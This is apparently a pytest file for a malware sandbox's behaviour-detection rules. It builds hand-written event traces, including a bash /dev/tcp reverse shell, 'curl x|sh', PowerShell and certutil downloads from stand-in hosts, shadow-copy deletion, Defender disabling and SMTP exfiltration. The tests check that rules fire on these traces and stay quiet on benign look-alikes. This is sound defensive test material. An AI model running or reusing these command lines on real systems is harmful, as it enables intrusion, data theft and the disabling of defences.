"""Detonation rules over hand-written event lists (pure: no sandbox, no I/O but the docs table)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailvm.guest.rules import COMBOS, ENGINE_FINDINGS, RULES, PAYLOAD_MARKER, RuleContext, RuleEngine, evaluate
from mailvm.verdict import score_findings

H = "/home/user"
DECOYS = tuple(f"{H}/Documents/d{i}.docx" for i in range(6))
CTX = RuleContext(sample_path="/work/s.sh", role="script", decoys=DECOYS)
PROGRAM = RuleContext(sample_path="/work/a.out", role="program")
VIEWER = RuleContext(sample_path="/work/x.docx", role="viewer", viewer_exes=frozenset({"soffice.bin"}))
WINDOWS = RuleContext(sample_path="/work/x.exe", role="program", platform="windows",
                      quiet_prefixes=(f"{H}/.wine/drive_c/windows", "/tmp/wine-*"))
WSH = RuleContext(sample_path="/work/invoice.js", role="script", platform="windows",
                  quiet_prefixes=(f"{H}/.wine/drive_c/windows", "/tmp/wine-*"))
U = f"{H}/.wine/drive_c/users/user"  # C:\users\user inside the sandbox


def ids(events, ctx=CTX) -> set[str]:
    return {f.id for f in evaluate(events, ctx)}


def w(path, op="write", t=1.0, **kw):
    return {"t": t, "type": "file", "op": op, "path": path, "pid": 10, **kw}


def ex(path, argv=None, t=2.0, parent="", **kw):
    return {"t": t, "type": "exec", "path": path, "argv": argv or [path], "pid": 11, "parent_exe": parent, **kw}


def conn(ip, port, t=1.0, **kw):
    return {"t": t, "type": "connect", "family": "inet", "ip": ip, "port": port, "dst": f"{ip}:{port}", **kw}


def wex(cmdline, image="", t=2.0, **kw):
    """Wine's process trace: a Windows program started (image resolved) or asked for (exec_request)."""
    ev = {"t": t, "type": "exec", "src": "wine", "path": image, "argv": [cmdline], "tid": "0024", "proc": "x.exe"}
    if not image:
        ev.update(type="exec_request", path=cmdline.split(" ", 1)[0])
    return {**ev, **kw}


def api(fn, *args, t=1.0, **kw):
    return {"t": t, "type": "api", "src": "wine", "fn": fn, "args": list(args), "tid": "0024", "proc": "x.exe", **kw}


def payload(url, standin="pe_exe", by="name", t=1.0):
    return {"t": t, "type": "http", "method": "GET", "url": url, "served": "payload", "standin": standin,
            "standin_by": by}


def listen(ip, port, sock="socket:[7]"):
    return [{"type": "bind", "family": "inet", "ip": ip, "port": port, "dst": f"{ip}:{port}", "socket": sock},
            {"type": "listen", "socket": sock}]


# one (rule id, events, context) row per behaviour; each must raise exactly that rule (among others)
POSITIVE = [
    ("persistence_autostart", [w(f"{H}/.config/autostart/x.desktop", create=True)], CTX),
    ("persistence_autostart", [w("/etc/xdg/autostart/x.desktop", ok=False, err="EROFS")], CTX),
    ("persistence_cron", [ex("/usr/bin/crontab", ["crontab", "/tmp/c"])], CTX),
    ("persistence_cron", [w("/var/spool/cron/crontabs/user")], CTX),
    ("persistence_cron", [w("/usr/local/bin/crontab", op="probe", ok=False, err="ENOENT")], CTX),
    ("persistence_systemd", [w(f"{H}/.config/systemd/user/x.service")], CTX),
    ("persistence_systemd", [ex("/usr/bin/systemctl", ["systemctl", "--user", "enable", "x"])], CTX),
    ("persistence_shell_rc", [w(f"{H}/.bashrc")], CTX),
    ("persistence_shell_rc", [w("/tmp/x", op="rename", path2=f"{H}/.profile")], CTX),
    ("persistence_ld_preload", [w("/etc/ld.so.preload", ok=False, err="EROFS")], CTX),
    ("persistence_registry_run", [{"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
                                   "value": "u", "data": r"C:\u.exe"}], WINDOWS),
    ("persistence_registry_run", [{"type": "reg_set", "value": "Shell",
                                   "key": r"HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon"}], WINDOWS),
    ("persistence_startup_folder",
     [w(f"{H}/.wine/drive_c/users/user/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.lnk")],
     WINDOWS),
    ("ssh_authorized_keys", [w(f"{H}/.ssh/authorized_keys")], CTX),
    ("write_outside_workdir", [w(f"{H}/.local/bin/x")], CTX),
    ("write_outside_workdir", [w("/etc/hosts", ok=False, err="EROFS")], CTX),
    ("user_file_modified", [w(DECOYS[0])], CTX),
    ("mass_file_modification", [w(d, op="rename", path2=d + ".locked") for d in DECOYS[:5]], CTX),
    ("self_delete", [w("/work/s.sh", op="unlink")], CTX),
    ("credential_access", [w(f"{H}/.ssh/id_rsa", op="read")], CTX),
    ("credential_access", [w(f"{H}/.mozilla/firefox/p.default/logins.json", op="read")], CTX),
    ("credential_access", [w("/etc/shadow", op="read", ok=False, err="EACCES")], CTX),
    ("log_tampering", [w(f"{H}/.bash_history", op="unlink")], CTX),
    ("drop_execute", [w("/tmp/.x", create=True, t=1), ex("/tmp/.x", t=2)], CTX),
    ("drop_execute", [w("/tmp/p", t=1), ex("/bin/sh", ["sh", "/tmp/p"], t=2)], CTX),
    ("drop_execute", [w("/work/y", op="chmod", exec_bit=True, mode="0o755"), ex("/work/y")], CTX),
    ("build_execute", [ex("/usr/bin/ld", ["ld", "-o", "/tmp/test.file.x"], pid=30, t=1),
                       w("/tmp/test.file.x", pid=30, t=1.5), ex("/tmp/test.file.x", t=2)], CTX),
    ("download_execute", [{"t": 1, "type": "http", "served": "payload", "url": "http://x/p"},
                          w("/tmp/p", t=2), ex("/tmp/p", t=3)], CTX),
    ("download_execute", [ex("/bin/true", ["/bin/true", PAYLOAD_MARKER])], CTX),
    ("fileless_execution", [ex("/proc/self/fd/3")], CTX),
    ("shell_spawned", [ex("/bin/sh", ["sh", "-c", "id"], parent="/work/a.out")], PROGRAM),
    ("shell_spawned", [{"type": "exec", "src": "wine", "path": r"C:\windows\system32\cmd.exe",
                        "argv": ["cmd /c whoami"]}], WINDOWS),
    ("viewer_spawns_shell", [ex("/bin/sh", ["sh", "-c", "curl x|sh"], parent="/usr/lib/libreoffice/soffice.bin")],
     VIEWER),
    ("privilege_escalation_attempt", [ex("/usr/bin/sudo", ["sudo", "-n", "id"])], CTX),
    ("process_injection", [{"type": "ptrace", "request": "PTRACE_ATTACH", "target": 1, "pid": 10}], CTX),
    ("process_injection", [{"type": "inject", "call": "process_vm_writev", "target": 5}], CTX),
    ("process_injection", [w("/proc/1/mem")], CTX),
    ("anti_debug", [{"type": "ptrace", "request": "PTRACE_TRACEME", "ok": False, "err": "EPERM"}], CTX),
    ("anti_vm_probe", [w("/sys/class/dmi/id/product_name", op="read")], CTX),
    ("anti_vm_probe", [ex("/usr/bin/systemd-detect-virt")], CTX),
    ("cpu_info_probe", [w("/proc/cpuinfo", op="read")], CTX),
    ("long_sleep", [{"type": "sleep", "seconds": 600}], CTX),
    ("resource_exhaustion", [{"type": "clone_failed", "err": "EAGAIN"}] * 5, CTX),
    ("resource_exhaustion", [{"type": "fork", "child": i} for i in range(100)], CTX),
    ("listens_for_connections", [{"type": "bind", "family": "inet", "ip": "0.0.0.0", "port": 4444,
                                  "dst": "0.0.0.0:4444", "socket": "socket:[7]"},
                                 {"type": "listen", "socket": "socket:[7]"}], CTX),
    ("library_from_writable_dir", [{"type": "image", "path": "/tmp/x.so"}], CTX),
    ("library_from_writable_dir", [{"type": "image", "src": "wine", "path": r"Z:\work\evil.dll", "native": True}],
     WINDOWS),
    ("network_raw_ip", [conn("203.0.113.10", 4444)], CTX),
    ("network_raw_ip", [{"type": "sendto", "family": "inet", "ip": "198.51.100.7", "port": 9999}], CTX),
    ("network_resolved_host", [{"type": "dns", "name": "c2.example", "answer": "198.18.0.1"},
                               conn("198.18.0.1", 443)], CTX),
    ("dns_query", [{"type": "dns", "name": "c2.example", "qtype": "A"}], CTX),
    ("http_request", [{"type": "http", "method": "GET", "url": "http://c2.example/x"}], CTX),
    ("tls_connection", [{"type": "tls", "sni": "c2.example", "dst": "198.18.0.1:443"}], CTX),
    # Windows persistence
    ("persistence_scheduled_task",
     [wex(r'schtasks /create /sc onlogon /tn upd /tr "C:\users\user\AppData\Roaming\u.exe"',
          image=r"C:\windows\system32\schtasks.exe")], WINDOWS),
    ("persistence_scheduled_task", [w(f"{H}/.wine/drive_c/windows/system32/tasks/upd", create=True)], WINDOWS),
    ("persistence_service", [wex(r"sc create upd binPath= C:\u.exe start= auto")], WINDOWS),
    ("persistence_service", [{"type": "reg_set", "src": "reg_diff", "value": "ImagePath", "data": r"C:\u.exe",
                              "key": r"HKLM\System\CurrentControlSet\Services\upd"}], WINDOWS),
    ("persistence_service", [api("CreateServiceA", "0x10", "upd", "upd", "0xf01ff", "0x10", "0x2", "0x1",
                                 r"C:\u.exe")], WINDOWS),
    # ransomware
    ("ransom_note", [w(f"{H}/Desktop/HOW_TO_DECRYPT_FILES.txt", create=True)], CTX),
    ("ransom_note", [w(f"{H}/Documents/!!!_READ_ME_!!!.html", create=True)], WINDOWS),
    ("shadow_copy_deletion", [wex("vssadmin delete shadows /all /quiet")], WINDOWS),
    ("shadow_copy_deletion", [wex("cmd /c bcdedit /set {default} recoveryenabled No",
                                  image=r"C:\windows\system32\cmd.exe")], WINDOWS),
    # credential stores
    ("credential_access", [w(f"{U}/AppData/Local/Google/Chrome/User Data/Default/Login Data", op="read")], WINDOWS),
    ("credential_access", [w(f"{U}/AppData/Roaming/Mozilla/Firefox/Profiles/a.default/key4.db", op="probe")],
     WINDOWS),
    ("credential_access", [w(f"{U}/AppData/Roaming/FileZilla/sitemanager.xml", op="read")], WINDOWS),
    ("credential_access", [w(f"{U}/AppData/Roaming/Thunderbird/Profiles/q.default/logins.json", op="read")],
     WINDOWS),
    ("credential_access", [w(f"{U}/AppData/Local/Microsoft/Outlook/j.doe@example.com.ost", op="read")], WINDOWS),
    ("credential_access", [w(f"{H}/.local/share/Google/Chrome/User Data/Default/Login Data", op="read")],
     RuleContext(sample_path="/work/s.exe", platform="dotnet")),  # Mono's %LOCALAPPDATA%
    ("credential_access", [w(f"{H}/{p}", op="read", ok=False, err="ENOENT") for p in (
        ".config/Mozilla/Firefox/Profiles/x/logins.json", ".local/share/Google/Chrome/User Data/Local State",
        ".config/FileZilla/recentservers.xml")], RuleContext(sample_path="/work/s.exe", platform="dotnet")),
    ("credential_access", [{"type": "reg_open", "key": r"HKCU\Software\SimonTatham\PuTTY\Sessions", "ok": True}],
     WINDOWS),
    ("credential_access", [{"type": "reg_open", "key": r"HKCU\Software\Martin Prikryl\WinSCP 2\Sessions"}],
     WINDOWS),
    ("log_tampering", [wex("wevtutil cl Security", image=r"C:\windows\system32\wevtutil.exe")], WINDOWS),
    # downloads and execution under Wine
    ("drop_execute", [w(f"{U}/AppData/Roaming/upd.exe", t=1), wex(r"C:\users\user\AppData\Roaming\UPD.EXE",
                                                               image=r"C:\users\user\AppData\Roaming\UPD.EXE")],
     WINDOWS),
    ("download_execute", [payload("http://x/a.exe", t=1), w(f"{U}/Temp/a.exe", t=2),
                          wex(r'"C:\users\user\Temp\a.exe"', image=r"C:\users\user\Temp\a.exe", t=3)],
     WINDOWS),
    ("download_execute", [payload("http://x/s.vbs", standin="vbs", t=1), w(f"{U}/Temp/s.vbs", t=2),
                          wex(r'wscript.exe "C:\users\user\Temp\s.vbs"', image=r"C:\windows\system32\wscript.exe",
                              t=3)], WSH),
    ("download_execute", [w("/tmp/.x", create=True, t=1, pid=20), conn("203.0.113.80", 80, t=2, pid=20),
                          {"t": 3, "type": "http", "served": "payload", "dst": "203.0.113.80:80"},
                          ex("/tmp/.x", ["./.x"], t=4)], CTX),  # wget -O opens its output before it asks
    ("download_execute", [w("/tmp/.y", create=True, t=1, pid=21),
                          {"t": 3, "type": "http", "served": "payload", "dst": "203.0.113.81:80"},
                          conn("203.0.113.81", 80, t=2, pid=21), ex("/tmp/.y", ["./.y"], t=4)], CTX),  # logs interleaved
    ("downloads_executable", [payload("http://x/upd.exe")], CTX),
    ("downloads_executable", [{"type": "ftp", "command": "RETR", "file": "stage2.exe", "dst": "203.0.113.1:21"}],
     CTX),
    ("script_host_downloads_executable", [payload("http://cdn.example/docs/dogovr2208.exe")], WSH),
    ("script_host_web_request", [{"t": 1, "type": "http", "method": "GET", "url": "http://wgaaoebswculrdipagp.com/",
                                  "dst": "198.18.0.1:80"}], WSH),
    ("lolbin_download", [wex("powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe',"
                             "$env:TEMP+'\\a.exe')\"", image=r"C:\windows\system32\WindowsPowershell\v1.0\powershell.exe")],
     WSH),
    ("lolbin_download", [wex("certutil -urlcache -split -f http://x.example/p.txt C:\\p.exe")], WINDOWS),
    ("lolbin_download", [wex("mshta http://x.example/a.hta", image=r"C:\windows\system32\mshta.exe")], WSH),
    ("powershell_encoded_command", [wex("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")], WSH),
    ("self_copy", [api("CopyFileA", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\svchost32.exe", "0x0")],
     WINDOWS),
    ("self_copy", [ex("/bin/cp", ["cp", "/work/s.sh", f"{H}/.local/bin/s"])], CTX),
    ("self_copy", [w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/dbus-helper", create=True, t=2)], PROGRAM),
    ("self_copy", [w("/work/a.out", op="read", t=1), w("/tmp/.t", create=True, t=2),
                   w("/tmp/.t", op="rename", path2=f"{H}/.local/bin/a.out", t=3)], PROGRAM),
    ("self_copy", [ex("/bin/cp", ["cp", "./a.out", f"{H}/.config/.hidden/x"])], PROGRAM),
    ("self_copy_executed", [api("CopyFileW", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\svc.exe"),
                            wex(r"C:\users\user\AppData\Roaming\svc.exe",
                                image=r"C:\users\user\AppData\Roaming\svc.exe")], WINDOWS),
    ("self_copy_executed", [w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/a.out", t=2),
                            ex(f"{H}/.local/bin/a.out", t=3)], PROGRAM),
    ("reverse_shell", [conn("203.0.113.5", 4444, pid=10), ex("/bin/sh", ["sh", "-i"], pid=11, ppid=10)], PROGRAM),
    ("reverse_shell", [ex("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"], pid=12),
                       conn("203.0.113.5", 443, pid=12)], CTX),
    # Windows processes
    ("process_injection", [api("WriteProcessMemory", "0x58", "0x340000", "0x21fc7f", "0x1", "0x21fc70")], WINDOWS),
    ("process_injection", [api("VirtualAllocEx", "0x58", "0x0", "0x1000", "0x3000", "0x40")], WINDOWS),
    ("process_hollowing", [api("CreateProcessA", r"C:\windows\system32\svchost.exe", "0x0", "0x0", "0x0", "0x0",
                               "0x100000004"),
                           api("NtUnmapViewOfSection", "0x58", "0x400000")], WINDOWS),
    ("keyboard_hook", [api("SetWindowsHookExA", "0xd", "0x140001530", "0x140000000", "0x0")], WINDOWS),
    ("security_tool_tampering", [ex("/usr/bin/pkill", ["pkill", "-9", "strace"])], CTX),
    ("security_tool_tampering", [wex("taskkill /f /im procmon64.exe", r"C:\windows\system32\taskkill.exe")],
     WINDOWS),
    ("security_tool_tampering", [wex("powershell -w hidden -c Set-MpPreference -DisableRealtimeMonitoring $true")],
     WINDOWS),
    ("security_tool_tampering", [wex(r'cmd /c powershell Add-MpPreference -ExclusionPath "C:\Users"')], WINDOWS),
    ("security_tool_tampering", [wex("sc stop WinDefend", r"C:\windows\system32\sc.exe")], WINDOWS),
    ("security_tool_tampering", [{"type": "reg_set", "src": "reg_diff", "value": "DisableAntiSpyware",
                                  "key": r"HKLM\Software\Policies\Microsoft\Windows Defender",
                                  "data": "dword:00000001"}], WINDOWS),
    ("sandbox_tampering", [{"type": "kill", "target": 4711, "ns_target": 1, "signal": "SIGKILL"}], CTX),
    ("sandbox_tampering", [{"type": "kill", "target": -1, "ns_target": -1, "signal": "SIGTERM", "ok": False,
                            "err": "ESRCH"}], CTX),
    ("memory_exhaustion", [{"type": "oom_kill", "count": 2, "limit": 2 << 30}], CTX),
    ("anti_debug", [api("IsDebuggerPresent")], WINDOWS),
    ("anti_debug", [api("NtSetInformationThread", "0xfffffffffffffffe", "0x11", "0x0", "0x0")], WINDOWS),
    ("anti_vm_probe", [api("GetModuleHandleA", "SbieDll.dll")], WINDOWS),
    ("anti_vm_probe", [{"type": "reg_open", "key": r"HKLM\Software\VMware, Inc.\VMware Tools", "ok": False}],
     WINDOWS),
    ("anti_vm_probe", [w(f"{H}/.wine/drive_c/windows/system32/drivers/VBoxMouse.sys", op="probe", ok=False,
                         err="ENOENT")], WINDOWS),
    ("anti_vm_probe", [wex("wmic bios get serialnumber", image=r"C:\windows\system32\wbem\wmic.exe")], WINDOWS),
    ("long_sleep", [api("Sleep", "0x927c0")], WINDOWS),
    ("long_sleep", [wex("ping -n 60 127.0.0.1", image=r"C:\windows\system32\ping.exe")], WINDOWS),
    ("listens_loopback", listen("127.0.0.1", 8000), CTX),
    # network, exfiltration
    ("c2_port", [conn("203.0.113.7", 6667)], CTX),
    ("c2_port", [{"type": "dns", "name": "irc.example", "answer": "198.18.0.3"}, conn("198.18.0.3", 6697)], CTX),
    ("irc_traffic", [{"type": "irc", "command": "NICK", "args": "bot123", "dst": "203.0.113.7:6667"}], CTX),
    ("exfil_smtp", [{"type": "smtp", "message": True, "mail_from": "a@x", "rcpt": ["drop@evil.example"],
                     "bytes": 900, "subject": "PW", "attachments": ["log.zip"], "dst": "198.18.0.4:587"}], CTX),
    ("exfil_smtp", [{"type": "smtp", "message": False, "auth_user": "bot@evil.example", "dst": "198.18.0.4:587"}],
     CTX),
    ("exfil_ftp_upload", [{"type": "ftp", "command": "STOR", "file": "loot.zip", "bytes": 5000, "user": "u"}], CTX),
    ("http_upload", [{"type": "http", "method": "POST", "url": "http://x/gate.php", "body_bytes": 5000}], CTX),
    ("http_upload", [{"type": "http", "method": "POST", "url": "http://x/u", "body_bytes": 90,
                      "upload_files": ["passwords.txt"]}], CTX),
    ("exfil_messaging_api", [{"type": "tls", "sni": "api.telegram.org", "dst": "198.18.0.5:443"}], CTX),
    ("exfil_messaging_api", [{"type": "http", "method": "POST", "host": "discord.com",
                              "url": "http://discord.com/api/webhooks/1/x", "path": "/api/webhooks/1/x"}], CTX),
    ("public_ip_lookup", [{"type": "dns", "name": "api.ipify.org", "answer": "198.18.0.6"}], CTX),
]


@pytest.mark.parametrize("rule_id,events,ctx", POSITIVE, ids=[f"{r[0]}-{i}" for i, r in enumerate(POSITIVE)])
def test_rule_fires(rule_id, events, ctx):
    assert rule_id in ids(events, ctx)


def test_every_rule_has_a_positive_case():
    assert {r.id for r in RULES} == {row[0] for row in POSITIVE}


# corroborating behaviours: events, context, the combination that must fire, the verdict
SCENARIOS = [
    ("persistence plus C2 (Run key + beacon)", [
        {"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "value": "u"},
        {"type": "dns", "name": "c2.example", "answer": "198.18.0.1"}, conn("198.18.0.1", 443)],
     WINDOWS, "combo_persistence_c2"),
    ("a stealer: browser logins, then Telegram", [
        w(f"{U}/AppData/Local/Google/Chrome/User Data/Default/Login Data", op="read"),
        {"type": "tls", "sni": "api.telegram.org", "dst": "198.18.0.2:443"}], WINDOWS, "combo_credentials_exfil"),
    ("a stealer: FileZilla, then SMTP", [
        w(f"{U}/AppData/Roaming/FileZilla/recentservers.xml", op="read"),
        {"type": "smtp", "message": True, "mail_from": "a@x", "rcpt": ["b@y"], "bytes": 10, "subject": ""}],
     WINDOWS, "combo_credentials_exfil"),
    ("the crafted ELF: copy into ~/.local/bin, beacon to a raw IP on 6667, a shell", [
        w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/a.out", create=True, t=2),
        conn("203.0.113.66", 6667, t=3, pid=10), ex("/bin/sh", ["sh", "-c", "id"], t=4, pid=11, ppid=10)],
     PROGRAM, "combo_self_copy_c2"),
    ("an ELF that starts a shell and beacons to a raw IP", [
        ex("/bin/sh", ["sh", "-c", "uname -a"], parent="/work/a.out", t=1), conn("203.0.113.66", 8080, t=2)],
     PROGRAM, "combo_shell_c2"),
    ("a keylogger that talks home", [api("SetWindowsHookExW", "0xd", "0x1", "0x1", "0x0"),
                                     {"type": "http", "method": "POST", "url": "http://x/k", "body_bytes": 10}],
     WINDOWS, "combo_keylogger_exfil"),
    ("injection plus C2", [api("CreateRemoteThread", "0x58", "0x0", "0x0", "0x340000"), conn("203.0.113.9", 80)],
     WINDOWS, "combo_injection_c2"),
    ("a downloader that checks for a debugger", [api("IsDebuggerPresent"), payload("http://x/a.exe")], WINDOWS,
     "combo_download_evasion"),
    ("a self copy that persists", [api("CopyFileA", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\s.exe"),
                                   {"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
                                    "value": "s"}], WINDOWS, "combo_self_copy_persistence"),
]


@pytest.mark.parametrize("name,events,ctx,combo", SCENARIOS, ids=[s[0] for s in SCENARIOS])
def test_corroborating_behaviours_add_up_to_malicious(name, events, ctx, combo):
    findings = evaluate(events, ctx)
    assert combo in {f.id for f in findings}, findings
    assert score_findings(findings)[0] == "malicious", findings
    detail = next(f.detail for f in findings if f.id == combo)
    assert " + " in detail  # names the findings that corroborate each other


def test_every_combination_has_a_scenario_and_alone_the_parts_are_not_enough():
    assert {c.id for c in COMBOS} == {s[3] for s in SCENARIOS}
    # each part of the ELF case alone stays below malicious
    for part in ([conn("203.0.113.66", 6667)], [w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/a.out", t=2)],
                 [ex("/bin/sh", ["sh", "-c", "id"], parent="/work/a.out")]):
        assert score_findings(evaluate(part, PROGRAM))[0] != "malicious", evaluate(part, PROGRAM)


def test_a_combination_fires_once_when_its_second_family_appears():
    eng = RuleEngine(WINDOWS)
    first = eng.feed({"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce",
                      "value": "x"})
    assert [f.id for f in first] == ["persistence_registry_run"]
    second = eng.feed(conn("203.0.113.10", 80))
    assert [f.id for f in second] == ["network_raw_ip", "combo_persistence_c2"]
    assert eng.feed(conn("203.0.113.11", 80)) == []
    assert [f.id for f in eng.findings()].count("combo_persistence_c2") == 1


# look-alikes that must stay quiet (a 4th column names the only rules that must not fire)
NEGATIVE = [
    ("benign script", [ex("/usr/bin/python3", ["python3", "/work/s.py"]), w("/work/out.txt"),
                       w("/tmp/cache", op="mkdir"), w("/usr/lib/python3.11/os.py", op="read"),
                       w("/dev/null"), w("/proc/10/task/11/comm")], CTX),
    ("script runs a shell (normal for scripts)", [ex("/bin/sh", ["sh", "-c", "ls"], parent="/usr/bin/python3")],
     CTX),
    ("executing the sample itself", [ex("/work/a.out")], PROGRAM),
    ("exec before any write", [ex("/tmp/x", t=1), w("/tmp/x", t=2)], CTX),
    ("download but no execution", [{"t": 1, "type": "http", "served": "payload", "url": "http://x/p"},
                                   w("/tmp/p", t=2)], CTX, {"download_execute", "drop_execute"}),
    ("loopback and DNS server connections", [conn("127.0.0.1", 8080), conn("127.0.0.53", 53),
                                             conn("8.8.8.8", 53)], CTX),
    ("own host name lookup", [{"type": "dns_lookup", "name": "desktop-7f3a"}],
     RuleContext(ignore_names=frozenset({"desktop-7f3a"}))),
    ("four decoys are not mass modification", [w(d) for d in DECOYS[:4]], CTX, {"mass_file_modification"}),
    ("system libraries", [{"type": "image", "path": "/usr/lib/x86_64-linux-gnu/libc.so.6"}], CTX),
    ("the Wine sample and Wine's own files", [
        {"type": "image", "src": "wine", "path": r"Z:\work\x.exe", "native": True},
        {"type": "image", "src": "wine", "path": r"C:\windows\system32\kernel32.dll", "native": False},
        w(f"{H}/.wine/drive_c/windows/win.ini"), w("/tmp/wine-abc/server-1/lock"),
        w("/sys/class/dmi/id/sys_vendor", op="read"), w("/proc/cpuinfo", op="read"),
        {"type": "image", "path": "/tmp/wine-abc/server-1/tmpmap-1"},
        {"type": "reg_set", "key": r"HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon", "value": "Build"},
        {"type": "exec", "src": "wine", "path": r"C:\windows\system32\services.exe", "argv": ["services.exe"]},
    ], WINDOWS),
    ("unix socket listen", [{"type": "listen", "socket": "socket:[9]"}], CTX),
    ("short sleeps", [{"type": "sleep", "seconds": 5}], CTX),
    ("a few processes", [{"type": "fork", "child": i} for i in range(20)], CTX),
    ("many processes one after the other", [{"type": e, "child": i} for i in range(300) for e in ("fork", "exit")],
     CTX),
    ("cache files", [w(f"{H}/.cache/fontconfig/x.cache-8")], CTX),
    ("mkdir -p of an existing dir is not reported by the monitor; reads of ~/.bashrc are fine",
     [w(f"{H}/.bashrc", op="read")], CTX),
    ("crontab -l only lists", [ex("/usr/bin/crontab", ["crontab", "-l"])], CTX),
    ("looking for a credential store that is not there (netrc.py)", [w(f"{H}/.netrc", op="read", ok=False,
                                                                        err="ENOENT")], CTX),
    ("the sample itself is an interpreter", [ex("/work/python3.11", ["/work/python3.11"])],
     RuleContext(sample_path="/work/python3.11", role="program")),
    ("fontconfig refreshing its caches", [w(f"{H}/.fontconfig/x.cache-8", create=True),
                                          w("/var/cache/fontconfig/y.cache-8", ok=False, err="EACCES")], WINDOWS),
    ("Wine's helpers do what services do", [
        wex("sc create x binPath= C:\\x.exe", proc="services.exe"),
        api("Sleep", "0x927c0", proc="winedevice.exe"), api("SetWindowsHookExW", "0xd", "0x0", "0x0", "0x0",
                                                               proc="explorer.exe"),
        {"type": "exec", "src": "wine", "path": r"C:\windows\system32\cmd.exe", "argv": ["cmd"],
         "proc": "services.exe"}], WINDOWS),
    ("a guessed stand-in for a bare path is no download of code",
     [payload("http://api.example/v1/status", standin="sh", by="default"),
      payload("http://api.example/v1/x", standin="pe_exe", by="client")], WSH,
     {"downloads_executable", "script_host_downloads_executable"}),
    ("a web page's scripts", [payload("http://cdn.example/jquery.js", standin="js")], VIEWER,
     {"downloads_executable", "script_host_downloads_executable"}),
    ("loopback listener", listen("127.0.0.1", 8000), CTX, {"listens_for_connections"}),
    ("INFINITE waits and short sleeps", [api("Sleep", "0xffffffff"), api("SleepEx", "0x3e8", "0x1"),
                                         wex("ping -n 2 127.0.0.1", image=r"C:\windows\system32\ping.exe")],
     WINDOWS),
    ("mouse hooks", [api("SetWindowsHookExA", "0xe", "0x1", "0x0", "0x0")], WINDOWS),
    ("PowerShell and certutil without a download", [wex("powershell -c Get-Date"), wex("certutil -hashfile a.exe"),
                                                    wex("msiexec /i C:\\setup.msi /qn")], WINDOWS,
     {"lolbin_download", "powershell_encoded_command"}),
    ("a process created normally, then written", [
        api("CreateProcessA", r"C:\x.exe", "0x0", "0x0", "0x0", "0x0", "0x0"),
        api("WriteProcessMemory", "0x58", "0x1", "0x2", "0x1", "0x0")], WINDOWS, {"process_hollowing"}),
    ("folders on the way to the launcher's own", [w(f"{H}/.local/share/applications", op="mkdir")],
     RuleContext(platform="windows", quiet_prefixes=(f"{H}/.local/share/applications/wine",))),
    ("Windows temp and browser caches are scratch", [
        w(f"{U}/Temp/x.tmp"), w(f"{U}/AppData/Local/Microsoft/Windows/INetCache/Content.IE5/AB/x[1]")], WINDOWS),
    ("a self-extractor unpacking to /tmp", [w("/work/a.out", op="read", t=1), w("/tmp/_MEI123/libpython3.so", t=2),
                                            {"t": 3, "type": "image", "path": "/usr/lib/libc.so.6"}], PROGRAM),
    ("a script read by its interpreter (Python: twice)", [w("/work/s.sh", op="read", t=1),
                                                          w("/work/s.sh", op="read", t=1.1),
                                                          w(f"{H}/.config/systemd/user/x.service", t=2)],
     CTX, {"self_copy"}),
    ("a shell after a connection to a resolved host",
     [{"type": "dns", "name": "pypi.org", "answer": "198.18.0.2"}, conn("198.18.0.2", 443, pid=10),
      ex("/bin/sh", ["sh", "-c", "ls"], pid=11, ppid=10)], PROGRAM, {"reverse_shell", "combo_shell_c2"}),
    ("ending its own processes and querying services", [
        ex("/usr/bin/pkill", ["pkill", "-f", "myapp-worker"]), ex("/usr/bin/killall", ["killall", "gdbus-helper"]),
        {"type": "kill", "target": 4712, "ns_target": 12, "signal": "SIGTERM"},
        {"type": "kill", "target": 0, "ns_target": 0, "signal": "SIGTERM"},
        {"type": "kill", "target": 4713, "ns_target": 1, "signal": "0"},
        wex("sc query WinDefend", r"C:\windows\system32\sc.exe"),
        wex("taskkill /f /im notepad.exe", r"C:\windows\system32\taskkill.exe"),
        {"type": "reg_set", "src": "reg_diff", "value": "DisableAntiSpyware", "data": "dword:00000000",
         "key": r"HKLM\Software\Policies\Microsoft\Windows Defender"}], WINDOWS),
    ("a build script compiles a program and runs it (perf's pipe_test.sh)", [
        ex("/usr/bin/cc", ["cc", "-o", "/tmp/test.file.x", "-x", "c", "-"], pid=30, t=1),
        ex("/usr/bin/ld", ["ld", "-o", "/tmp/test.file.x"], pid=31, t=1.2),
        w("/tmp/test.file.x", pid=31, t=1.5), w("/tmp/test.file.x", op="chmod", exec_bit=True, pid=31, t=1.6),
        ex("/tmp/test.file.x", t=2)], CTX, {"drop_execute"}),
    ("a process lister reading /proc is not probing for a VM", [
        ex("/usr/bin/pgrep", ["pgrep", "x"], pid=20), w("/proc/1/cgroup", op="read", pid=20)], CTX),
    ("Wine's own registry", [{"type": "reg_open", "key": r"HKLM\System\CurrentControlSet\Services\Tcpip",
                              "ok": True},
                             {"type": "reg_set", "src": "reg_diff", "value": "Hostname", "data": "desktop-7f3a",
                              "key": r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters"}], WINDOWS),
]


@pytest.mark.parametrize("row", NEGATIVE, ids=[n[0] for n in NEGATIVE])
def test_lookalikes_stay_quiet(row):
    """No finding at all, or (4th column) none of the named ones."""
    name, events, ctx, *forbidden = row
    found = ids(events, ctx)
    if forbidden:
        assert not found & forbidden[0]
    else:
        assert found == set()


def test_failed_attempts_are_marked_in_the_detail():
